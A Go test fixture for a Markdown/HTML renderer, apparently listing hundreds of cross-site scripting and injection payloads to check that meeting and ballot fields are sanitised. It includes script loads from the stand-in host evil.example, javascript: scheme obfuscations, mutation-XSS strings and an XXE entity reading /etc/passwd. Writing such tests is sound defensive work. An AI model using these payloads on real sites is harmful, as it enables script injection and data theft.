package render

// attacks is what a document might try, by kind. Each input is put into every
// field of a Meeting and of a Ballot, and into every place of a document.
var attacks = flat(
	attackMarkup, attackHandlers, attackElements, attackForeign, attackMutation, attackClosing, attackDeclarations,
	attackSchemes, attackEntities, attackBlanks, attackSpelling, attackLinks, attackImages, attackAutoLinks,
	attackTitles, attackAttributes, attackIDs, attackCode, attackFootnotes, attackBlocks, attackStyle, attackTemplates,
	attackUnclosed, attackCharacters, attackPlain,
)

func flat(kinds ...[]string) []string {
	var all []string
	for _, kind := range kinds {
		all = append(all, kind...)
	}
	return all
}

// attackMarkup is script elements, in the spellings that browsers read as such.
var attackMarkup = []string{
	`<script>alert(1)</script>`,
	`<ScRiPt>alert(1)</sCrIpT>`,
	`<script src=//evil.example/x.js></script>`,
	`<script src="data:text/javascript,alert(1)"></script>`,
	`<script/src="//evil.example">`,
	"<script\n>alert(1)</script\n>",
	"<script\x0c>alert(1)</script\x0c>",
	`<<script>alert(1);//<</script>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<script type=module>import "//evil.example"</script>`,
	`<script type="text/vbscript">MsgBox 1</script>`,
	`<script/random>alert(1)</script/random>`,
	`a<script>alert(1)</script>b`,
	`"'><script>alert(1)</script>`,
	`'';!--"<XSS>=&{()}`,
}

// attackHandlers is attributes that hold script.
var attackHandlers = []string{
	`<img src=x onerror=alert(1)>`,
	`"><img src=x onerror=alert(1)>`,
	`' onmouseover='alert(1)`,
	`" autofocus onfocus="alert(1)`,
	"` onmouseover=`alert(1)",
	` onclick=alert(1) `,
	`<body onload=alert(1)>`,
	`<details open ontoggle=alert(1)>a</details>`,
	`<video><source onerror="alert(1)"></video>`,
	`<audio src=x onerror=alert(1)>`,
	`<marquee onstart=alert(1)>a</marquee>`,
	`<input autofocus onfocus=alert(1)>`,
	`<div onpointerover="alert(1)" style="position:fixed;inset:0">a</div>`,
	`<img/src="x"/onerror=alert(1)//`,
	`<img src=x oNeRrOr=alert&lpar;1&rpar;>`,
	`<p slot=a popover id=b onbeforetoggle=alert(1)>a</p><button popovertarget=b>c</button>`,
	`<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="alert(1)"></b>`,
	`<img srcset="x 1x" onloadstart=alert(1)>`,
}

// attackElements is elements that load, embed, redirect or send.
var attackElements = []string{
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>`,
	`<frameset><frame src="javascript:alert(1)"></frameset>`,
	`<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">`,
	`<object classid="clsid:x"><param name=url value=javascript:alert(1)></object>`,
	`<applet code="x.class" codebase="//evil.example"></applet>`,
	`<link rel=stylesheet href=//evil.example>`,
	`<link rel=import href="data:text/html,x">`,
	`<base href="//evil.example/">`,
	`<base target="_blank" href="javascript:/a/+alert(1)//">`,
	`<meta http-equiv=refresh content="0;url=javascript:alert(1)">`,
	`<meta http-equiv="Content-Security-Policy" content="default-src *; script-src 'unsafe-inline'">`,
	`<form action="javascript:alert(1)"><button>a</button></form>`,
	`<form><button formaction="javascript:alert(1)">a</button><input type=image formaction=x></form>`,
	`<isindex type=image src=x action=javascript:alert(1)>`,
	`<a href="javascript:alert(1)" target=_blank ping="//evil.example">a</a>`,
	`<portal src="javascript:alert(1)"></portal>`,
	`<template><script>alert(1)</script></template>`,
	`<slot name=x></slot><custom-element is=y></custom-element>`,
	`<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">a</td></tr></table>`,
	`<bgsound src="javascript:alert(1)"><layer src="javascript:alert(1)"></layer>`,
	`<xml id=i><x><c><![CDATA[<img src="javas]]><![CDATA[cript:alert(1)">]]></c></x></xml>`,
}

// attackForeign is SVG and MathML, whose content is parsed by other rules.
var attackForeign = []string{
	`<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><script xlink:href="data:,alert(1)"/></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text y=9>a</text></a></svg>`,
	`<svg><animate attributeName=href values=javascript:alert(1) /></svg>`,
	`<svg><set attributeName="onmouseover" to="alert(1)"/></svg>`,
	`<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>`,
	`<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>`,
	`<math href="javascript:alert(1)">a</math>`,
	`<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:alert(1)">a</maction></math>`,
	`<svg xmlns="http://www.w3.org/2000/svg"><handler type="text/javascript" ev:event="load">alert(1)</handler></svg>`,
	`<html xmlns:xss><?import namespace="xss" implementation="//evil.example"><xss:xss>a</xss:xss>`,
}

// attackMutation is markup that means something else once it was written and read
// again, or read with scripting switched off.
var attackMutation = []string{
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<listing>&lt;img src=x onerror=alert(1)&gt;</listing>`,
	`<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>`,
	`<plaintext><script>alert(1)</script>`,
	`<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>`,
	`<select><noembed></select><script x='a@b'a>y='a@b'//a@b%0a\u0061lert(1)</script x>`,
	`<table><td><svg><desc><td></desc></svg><img src=x onerror=alert(1)>`,
	`<p title="&lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt;">a</p>`,
	`<noframes><p title="</noframes><script>alert(1)</script>"></noframes>`,
}

// attackClosing ends what a field stands in.
var attackClosing = []string{
	`</title></style></textarea><script>alert(1)</script>`,
	`</section></main></body></html><script>alert(1)</script>`,
	`</article></header></nav><h1>a</h1>`,
	`</script><script>alert(1)</script>`,
	`</p></li></ul></td></tr></table><b>`,
	`</style ><img src=x onerror=alert(1)>`,
	`]]> --> */ </style> <style>`,
	`"></a></h2><h2 id="a">`,
	`</span></h1><div class="`,
	`--!><script>alert(1)</script>`,
}

// attackDeclarations is comments, sections, instructions and document types.
var attackDeclarations = []string{
	`<!--><script>alert(1)</script>-->`,
	`<!---><img src=x onerror=alert(1)>-->`,
	"<!-- \n\n--><img src=x onerror=alert(1)>",
	`<!-- --!><img src=x onerror=alert(1)> -->`,
	`<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`,
	`<![if IE]><script>alert(1)</script><![endif]>`,
	`a <!-- b -- > c <!-- d`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<?xml-stylesheet href="javascript:alert(1)"?>`,
	`<?php echo "<script>alert(1)</script>"; ?>`,
	`<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;`,
	`<!DOCTYPE html SYSTEM "about:legacy-compat"><!ELEMENT a ANY>`,
	`<!x onclick=alert(1)><//script><%a%>`,
}

// attackSchemes is addresses that run, read or show what a document must not.
var attackSchemes = []string{
	`[a](javascript:alert(1))`,
	`[a](vbscript:msgbox)`,
	`[a](data:text/html;base64,PHNjcmlwdD4=)`,
	`[a](DATA:text/html,x)`,
	`[a](file:///etc/passwd)`,
	`[a](blob:https://a.example/x)`,
	`[a](view-source:javascript:alert(1))`,
	`[a](livescript:x) [b](mocha:x) [c](jar:x!/y) [d](feed:javascript:x) [e](about:blank) [f](ms-its:x) [g](filesystem:x)`,
	`[a](intent://x#Intent;scheme=http;end) [b](tel:1) [c](ftp://a.example) [d](ws://a.example) [e](chrome://x)`,
	`[a](x-javascript:alert(1)) [b](javascript2:alert(1)) [c](http+x:y)`,
	`[a](javascript://%0aalert(1)) [b](javascript:%61lert(1))`,
	`[a](mailto:javascript:alert(1)) [b](https:javascript:alert(1))`,
}

// attackEntities spells a scheme with references to characters, of which some end
// in a semicolon and some do not.
var attackEntities = []string{
	`[a](java&#115;cript:alert(1))`,
	`[a](java&#115cript:alert(1))`,
	`[a](javascript&colon;alert(1))`,
	`[a](javascript&colonalert(1))`,
	`[a](javascript&#x3a;alert(1))`,
	`[a](javascript&#X3A;alert(1)) [b](javascript&#x3Aalert(1))`,
	`[a](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))`,
	`[a](&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1))`,
	`[a](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))`,
	`[a](&amp;#106;avascript:alert(1)) [b](&amp;#x6a;avascript&amp;colon;x)`,
	`[a](&amp;amp;#106;avascript:alert(1))`,
	`[a](javascript&#0058;alert&lpar;1&rpar;)`,
	`<a href="&#106;avascript:alert(1)">a</a>`,
}

// attackBlanks puts blanks and controls before, into and behind a scheme.
var attackBlanks = []string{
	`[a](&#1;javascript:alert(1))`,
	`[a](java&Tab;script:alert(1))`,
	`[a](java&NewLine;script:alert(1))`,
	`[a](java&#13;script:alert(1)) [b](java&#x0A;script&#9;:alert(1))`,
	"[a](<java\tscript:alert(1)>)",
	`[a](< javascript:alert(1)>)`,
	"[a](\x01javascript:alert(1))",
	"[a](<\u00a0javascript:alert(1)>) [b](<\u2028javascript:x>) [c](<\ufeffjavascript:x>) [d](<\u200bjavascript:x>)",
	`[a](&nbsp;javascript:alert(1)) [b](&ZeroWidthSpace;javascript:x) [c](&#xad;javascript:x)`,
	"[a](java\x00script:alert(1)) [b](java&#0;script:x)",
	"[a](<javascript\x0b:alert(1)>) [b](<javascript\x0c:alert(1)>) [c](<javascript\x7f:alert(1)>)",
	"[a](\n  javascript:alert(1)\n)",
	"[a](<  \x1f javascript:alert(1)>)",
}

// attackSpelling is other ways to write a scheme or to pass by it.
var attackSpelling = []string{
	`[a](JaVaScRiPt:alert(1))`,
	`[a](\javascript:alert(1))`,
	`[a](javascript\:alert(1))`,
	`[a](jav\ascript:alert(1)) [b](\j\a\v\a\s\c\r\i\p\t\:x)`,
	`[a](java%73cript:alert(1)) [b](javascript%3Aalert(1)) [c](%6A%61vascript:x)`,
	"[a](ｊavascript:alert(1)) [b](javaſcript:alert(1)) [c](javascript：alert(1)) [d](\u212aavascript:x)",
	`[a](//evil.example/x) [b](///evil.example) [c](\\\\evil.example\\x) [d](/\\evil.example)`,
	`[a](https:evil.example) [b](https:\\\\evil.example) [c](http:///evil.example)`,
	`[a](https://a.example@evil.example/) [b](https://evil.example%00.a.example)`,
	`[a](?javascript:alert(1)) [c](./javascript:alert(1)) [d](:javascript:x)`,
	`[a](..//..//evil) [b](;javascript:x) [c](1javascript:alert(1)) [d](+javascript:x)`,
	`[a](javascript:alert(1)//https://a.example) [b](javascript:"https://"+x)`,
}

// attackLinks is the ways in which Markdown makes a link.
var attackLinks = []string{
	`[a][x]` + "\n\n[x]: javascript:alert(1)",
	`[a][x]` + "\n\n[x]: /y \"\\\" onclick=alert(1) \\\"\"",
	"[a][] [a]\n\n[a]: <javascript:alert(1)>",
	"[X]\n\n[x]: data:text/html,x\n[x]: /y",
	"[a\n\n[a]: java\nscript:alert(1)",
	`[a <https://b.example> ![c](javascript:x) www.d.example](/x)`,
	`[a](/x" onclick="alert(1))`,
	`[a](/x'onclick='alert(1)) [b](</x" onclick="alert(1)>) [c](</x<script>)`,
	`[[a](javascript:x)](/y) [![b](/z)](javascript:x) [a [b](/c) d](/e)`,
	`[<script>alert(1)</script>](/x)`,
	`[a](javascript:alert(1)"b") [a]( javascript:alert(1) 'b' )`,
	`[](javascript:alert(1)) [](/x"onclick="y)`,
	`[a]((javascript:alert(1))) [b](javascript:alert\(1\)) [c](<javascript:alert(1)`,
	"[\"><script>x</script>]: /x \"><script>alert(1)</script>\"\n[\"><script>x</script>]",
	"> [a]: javascript:alert(1)\n\n[a]\n\n- [b]: vbscript:x\n\n[b]",
}

// attackImages is images.
var attackImages = []string{
	`![a](javascript:alert(1))`,
	`![a](data:image/svg+xml;base64,AA)`,
	`![a](mailto:a@a.example) ![b](MAILTO:b) ![c](mail&#116;o:c)`,
	`![a" onerror="alert(1)](x.png "b\" onerror=\"alert(1)")`,
	`![<script>alert(1)</script>](x.png)`,
	`![a](x.png" onerror="alert(1))`,
	`![[b](javascript:x)](javascript:y) ![![c](d)](e "f")`,
	"![a][x] ![x]\n\n[x]: javascript:alert(1) 'onerror=alert(1)'",
	`![&quot; onerror=&quot;alert(1)](x.png) ![&#34;onerror=](y.png)`,
	`![a](//evil.example/x.png) ![b](\\\\evil.example\\x.png) ![c](http://evil.example/x.png)`,
	"![\\\" onerror=alert(1)](x.png '&quot; onerror=&quot;x')",
}

// attackAutoLinks is addresses that become links by themselves.
var attackAutoLinks = []string{
	`<javascript:alert(1)>`,
	`<JAVASCRIPT:alert(1)>`,
	`<data:text/html,x>`,
	`<vbscript:x>`,
	`<mailto:a@a.example?subject="onclick=">`,
	`<https://a.example/"onclick="alert(1)> <https://a.example/'x'&lt;script&gt;>`,
	`<javascript&#58;alert(1)> <java&Tab;script:x>`,
	`https://a.example/"onclick=alert(1)// www.a.example/'<script> ana@a.example"x`,
	`http://a.example/<script>alert(1)</script> www.a.example/"><script>`,
	`javascript:alert(1) //a.example/%0d%0a<script>`,
	`ftp://a.example/x www.a.example:javascript:alert(1) javascript://www.a.example/%0aalert(1)`,
	`"onclick=x"@a.example <a"onclick=x@a.example> a@b.example?onclick=x`,
}

// attackTitles is quotes in the titles of links and images.
var attackTitles = []string{
	`[a](/x "b\" onclick=\"alert(1)")`,
	`[a](/x 'b" onclick="alert(1)')`,
	`[a](/x (b" onclick="alert(1)))`,
	`[a](/x "&quot; onclick=&quot;alert(1)")`,
	`[a](/x "&#34;><script>alert(1)</script>")`,
	`[a](/x "</a><script>alert(1)</script>")`,
	"[a](/x \"b\nonclick=alert(1)\")",
	"[a](/x '&#0;&#1;\x01&lt;')",
}

// attackAttributes is attributes in the site's syntax.
var attackAttributes = []string{
	"# a {onclick=\"alert(1)\" style=\"color:red\" id=\"a b\"}",
	"# a {ONCLICK=\"alert(1)\" class=\"x\\\" onclick=\\\"y\" #a\"b}",
	"# a {href=\"javascript:alert(1)\" srcset=x xlink:href=y data-x=z lang=q title='r' dir=rtl hidden}",
	"a\n===\n{onmouseover=alert(1)}",
	"a\n{onclick=\"alert(1)\" style=x srcdoc=y #x .\"b}",
	"a\n{onclick=\"alert(1)\"}\n{onfocus=\"alert(1)\" tabindex=0 autofocus}",
	"| a |\n|---|\n| <script> |\n{onclick=\"alert(1)\" style=\"x\" background=\"javascript:x\"}",
	"- a\n- b\n{onclick=\"alert(1)\" #c .d}",
	"1. a\n{start=\"x\" onclick=alert(1)}",
	"> a\n{cite=\"javascript:alert(1)\" .x}",
	"```\na\n```\n{onclick=\"alert(1)\" style=\"x\"}",
	"```js {onclick=\"alert(1)\" .x #y}\na\n```",
	"---\n{onclick=\"alert(1)\"}",
	"a\n: b\n{onclick=\"alert(1)\"}\n\n![c](d){onerror=alert(1)} [e](f){onclick=alert(1) target=_blank}",
	"a\n{class=\"skip \\\"><script> stage\" id=\"\" render:number=9}",
}

// attackIDs is ids: those of the page, doubled ones, and names by which scripts
// look for what the browser has.
var attackIDs = []string{
	"# a {#page:content}\n\n# b {#fn:1}\n\n# c {#x}\n\n# d {#x}",
	"# location\n\n# document {#document}\n\n# cookie {#cookie}\n\n# name\n\n# getElementById\n\n# constructor\n\n# __proto__",
	"# x\n\n# x\n\n# x-1\n\n# x {#x-1}\n\ny\n{#x}",
	"# a\" onclick=\"b\n\n# <script>alert(1)</script>\n\n# `\"><script>`",
	"# [a](javascript:x)\n\n# ![b](javascript:x)\n\n# <javascript:x>\n\n# c &quot;&gt;",
	"# votes\n\n# findings\n\n# motion\n\n# heading\n\n# !\n\n# ?",
	"# a {#\"><script>}\n\n# b {#ünï}\n\n# c {#a'b}\n\n# d {id='\"onclick=x'}",
}

// attackCode is code, which is shown as it is.
var attackCode = []string{
	"```\"><script>alert(1)</script>\n</code></pre><script>\n```",
	"```js\" onclick=\"alert(1)\na\n```",
	"~~~ &quot;onclick=&quot;alert(1)\n</code><script>\n~~~",
	"```</code></pre><script>\nunclosed",
	"    </code></pre><script>alert(1)</script>",
	"`</code><script>alert(1)</script>`",
	"``a`<img src=x onerror=alert(1)>`` `unclosed <script>",
	"```\\\"onclick\\=x\na\n```\n\n```a&#34;onclick=x&#0;\x01\nb\n```",
}

// attackFootnotes is footnotes.
var attackFootnotes = []string{
	"a[^1] [b[^1]](/x)\n\n[^1]: <script>alert(1)</script>\n\n    # c\n\n    [a](javascript:alert(1))",
	"a[^\"><script>]\n\n[^\"><script>]: b",
	"a[^1]\n\n[^1]: b\n{onclick=alert(1) #fn:1}\n[^1]: c\n[^2]: d[^2]",
	"a[^javascript:alert(1)] ![b[^x]](c)\n\n[^javascript:alert(1)]: d\n\n[^x]: <https://e.example/\"onclick=f>",
	"[^a]: [^b]: [^c]: <script>\n\n[^a] [^b] [^c]",
}

// attackBlocks is markup inside the blocks of Markdown.
var attackBlocks = []string{
	"- a\n\n  <script>\n- b\n\n> <script>\n> # c",
	"term <script>\n: <script> def\n\n~~<script>~~ **<script>** _<script>_",
	"| <script> | \"onclick= |\n|:--|:-:|\n| `|` \\| <img src=x onerror=y> | [a](javascript:x) |",
	"- [ ] <script>\n- [x] [a](javascript:x) onclick=\n- [x](javascript:y)",
	"<div>\n\n[a](javascript:alert(1))\n\n</div>\n<pre>\n<script>\n\n</script>",
	"> - 1. # <script>\n>     > ***\n\n***\n<style>\n\n# a",
	"<b onclick=alert(1)>**a**</b> *<i* onclick=x>* \\<script>",
	"<p\n\nonclick=alert(1)>\n\n<a href=\"\n\njavascript:x\">",
	"a\\\nb  \n<br onclick=x>\n# c #\nd\n---",
}

// attackStyle is script and loads in styles.
var attackStyle = []string{
	`<p style="background:url(javascript:alert(1))">a</p>`,
	`<div style="width:expression(alert(1))">a</div>`,
	`<style>@import "//evil.example/x.css";*{display:none}</style>`,
	`<style>body{-moz-binding:url("//evil.example/x#y");behavior:url(x.htc)}</style>`,
	`*/ } body { background: url(javascript:alert(1)) } /*`,
	`</style><style>*{background:url(//evil.example)}`,
	`" style="position:fixed;inset:0" class="`,
	`\3c script\3e alert(1)`,
}

// attackTemplates is the syntax of templates, of the package's and of others.
var attackTemplates = []string{
	"{{.}}{{template \"page\"}}{{printf \"%s\" \"<script>\"}}",
	"{{`{{`}}<script>{{end}}{{define \"page\"}}",
	"${alert(1)} <%= x %> #{x} {%x%}",
	"{{constructor.constructor('alert(1)')()}} {{< script >}} {{% x %}} [[x]] ng-app v-html=x",
	"%s %d %!x(MISSING) %[1]s ${{github}}",
}

// attackUnclosed is what is begun and not ended.
var attackUnclosed = []string{
	`<script>alert(1)`,
	`<img src=x onerror=alert(1) `,
	`<img src="x`,
	`<a href="javascript:alert(1)`,
	`<IMG """><SCRIPT>alert(1)</SCRIPT>"\>`,
	`<`,
	`</`,
	`<a "`,
	`<!`,
	`<!--`,
	`&#`,
	`&#x6a`,
	"[a](<javascript:alert(1) \"<script",
	"`<script>\n\n**<b\n\n[a](",
}

// attackCharacters is characters and bytes that are not text, or turn it around.
var attackCharacters = []string{
	"a\x00b\x01\x08\x0b\x0c\x1b\x7f\u0085\u009f\ufffe\uffff\U0001fffe &#1; &#8; &#xFFFE; &#127; &#x0; &#xD800;",
	"<scr\x00ipt>alert(1)</scr\x00ipt> <\x00script> <img\x00src=x\x0conerror=alert(1)>",
	"\xff\xfe\xc3\x28 \xed\xa0\x80",
	"\xc0\xbcscript\xc0\xbe \xe0\x80\xbcscript> \xf8\x80\x80\x80\xbc",
	"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
	"\x1b$B<script>\x1b(J ~{<script>~}",
	"\u202e\u2066 bidi \ufeff\u202d)1(trela\u2069\u2068\u200f",
	"＜script＞alert(1)＜/script＞ ‹script› ʺonclick=ʺ \u02bcx\u02bc",
	"\u2028<script>\u2029</script>\r<script>\r\n\t\v",
	"\x1b]8;;javascript:x\x07a\x1b]8;;\x07 \x1b[31m \x9b31m",
	"&#128;&#x9f;&#xfdd0;&#x10ffff;&#x110000;&#99999999999;&#-1;",
}

// attackPlain is text that must not become markup on the way.
var attackPlain = []string{
	"&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62; &amp;lt;",
	"Ana &quot;&gt;&lt;b&gt; O&#39;Neill &apos; &LT; &lt &amp &notit; &copy &nosuch;",
	"alert(1) javascript:alert(1) onerror=alert(1)",
	"2024-05-02\" onclick=\"alert(1)",
	"SC-20<script> Ballot SC20\"onclick=",
	"Minutes\n\n---\n\ntitle: <script>\n---\n",
	"May 16, 2024 at 11:00 am <script> Eastern Time\" onclick=\"",
}
